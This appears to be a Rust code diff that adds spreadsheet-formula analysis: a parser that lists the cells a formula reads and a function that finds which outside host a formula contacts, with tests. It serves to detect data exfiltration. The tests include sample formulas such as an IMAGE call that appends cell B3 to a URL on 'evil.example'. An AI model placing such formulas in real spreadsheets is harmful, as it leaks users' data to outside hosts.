@@ -2,6 +2,7 @@
 //! fetching: functions of other languages, of scripts and of the future among them.
 
 use serde_json::Value;
+use url::Url;
 
 use super::Input;
 
@@ -44,6 +45,82 @@ pub(crate) fn fetching(formula: &str) -> Vec<String> {
         }
     }
     found
+}
+
+/// Functions that read cells which stand nowhere in the formula.
+const POINTING: [&str; 2] = ["INDIRECT", "OFFSET"];
+
+/// The ranges that a formula reads, as it writes them; nothing where that cannot be told.
+pub(crate) fn references(formula: &str) -> Option<Vec<String>> {
+    let mut found = Vec::new();
+    let mut rest = formula;
+    while let Some(first) = rest.chars().next() {
+        let after = rest.get(first.len_utf8()..).unwrap_or_default();
+        match first {
+            '"' => rest = after.split_once('"')?.1,
+            '\'' => {
+                let (title, after) = titled(after)?;
+                let (cells, after) = named(after);
+                found.push(format!("'{title}'!{cells}"));
+                rest = after;
+            }
+            // Columns of tables, and what spills out of a cell.
+            '[' | '#' => return None,
+            _ if is_named(first) => {
+                let (name, after) = named(rest);
+                rest = after;
+                let upper = name.to_uppercase();
+                if after.trim_start().starts_with(['(', '\u{ff08}']) {
+                    if name.contains(':') || POINTING.contains(&upper.as_str()) {
+                        return None;
+                    }
+                } else if let Some(after) = after.strip_prefix('!') {
+                    let (cells, after) = named(after);
+                    found.push(format!("{name}!{cells}"));
+                    rest = after;
+                } else if !is_number(name) && !matches!(upper.as_str(), "TRUE" | "FALSE") {
+                    found.push(name.to_owned());
+                }
+            }
+            _ => rest = after,
+        }
+    }
+    Some(found)
+}
+
+/// A name may be `inf`, which is a number to some.
+fn is_number(word: &str) -> bool {
+    word.starts_with(|first: char| first.is_ascii_digit() || first == '.') && word.parse::<f64>().is_ok()
+}
+
+/// Whether it is part of a name or of a range.
+fn is_named(letter: char) -> bool {
+    letter.is_alphanumeric() || matches!(letter, '_' | '.' | '$' | ':')
+}
+
+/// A name or a range, and what follows it.
+fn named(text: &str) -> (&str, &str) {
+    text.split_at(text.find(|letter| !is_named(letter)).unwrap_or(text.len()))
+}
+
+/// The title of a sheet up to its closing quote, and what follows the `!` behind it.
+fn titled(quoted: &str) -> Option<(&str, &str)> {
+    let mut from = 0;
+    loop {
+        let end = from + quoted.get(from..)?.find('\'')?;
+        let after = quoted.get(end + 1..)?;
+        // A quote within a title is written twice.
+        if !after.starts_with('\'') {
+            return Some((quoted.get(..end)?, after.strip_prefix('!')?));
+        }
+        from = end + 2;
+    }
+}
+
+/// Whom a formula asks, if its address begins with a host.
+pub(crate) fn host(formula: &str) -> Option<String> {
+    let mut texts = formula.split('"').skip(1).step_by(2);
+    texts.find_map(|text| Url::parse(text.trim()).ok()?.host_str().map(str::to_owned))
 }
 
 /// A name in a formula.
@@ -116,6 +193,40 @@ mod tests {
     }
 
     #[test]
+    fn what_a_formula_reads_is_known_or_known_to_be_unknown() {
+        for (formula, read) in [
+            ("=IMAGE(\"https://x.example/A1\")", vec![]),
+            ("=IMPORTDATA(\"https://x.example/?\"&A2)", vec!["A2"]),
+            ("=IF(TRUE,SUM($A$1:B9)*2.5,false)", vec!["$A$1:B9"]),
+            ("=JOIN(\",\",A:A,3:7)&Costs!B2", vec!["A:A", "3:7", "Costs!B2"]),
+            ("='Q1 ''costs'''!C3:C&\"'\"", vec!["'Q1 ''costs'''!C3:C"]),
+            ("=IMAGE(inf&nan&.5&1E5)", vec!["inf", "nan"]),
+            ("=HYPERLINK(Totals,\"say \"\"A1\"\"\")", vec!["Totals"]),
+        ] {
+            assert_eq!(references(formula).unwrap(), read, "{formula}");
+        }
+        for unknown in [
+            "=IMAGE(INDIRECT(\"A\"&1))",
+            "=OFFSET (A1,1,1)",
+            "=SUM(A1:INDEX(B:B,2))",
+            "=Table1[Price]",
+            "=A1#",
+            "='Q1",
+            "=A1&\"",
+        ] {
+            assert_eq!(references(unknown), None, "{unknown}");
+        }
+    }
+
+    #[test]
+    fn whoever_is_asked_is_known_by_their_host() {
+        assert_eq!(host("=IMAGE(\"https://evil.example/p?q=\"&B3)").as_deref(), Some("evil.example"));
+        for hidden in ["=IMAGE(A1&\"://evil.example\")", "=IMAGE(\"https://\"&A1)", "=MY_SCRIPT(A1)"] {
+            assert_eq!(host(hidden), None, "{hidden}");
+        }
+    }
+
+    #[test]
     fn only_typed_texts_become_formulas() {
         for typed in ["=1+1", " =1+1", "+A1", "-SUM(A1)", "@A1"] {
             assert!(of(&json!(typed), Input::AsTyped).is_some(), "{typed}");
@@ -139,7 +250,7 @@ mod tests {
 
         #[test]
         fn nothing_breaks_the_reader(formula: String) {
-            let _ = fetching(&formula);
+            let _ = (fetching(&formula), references(&formula), host(&formula));
         }
     }
 }
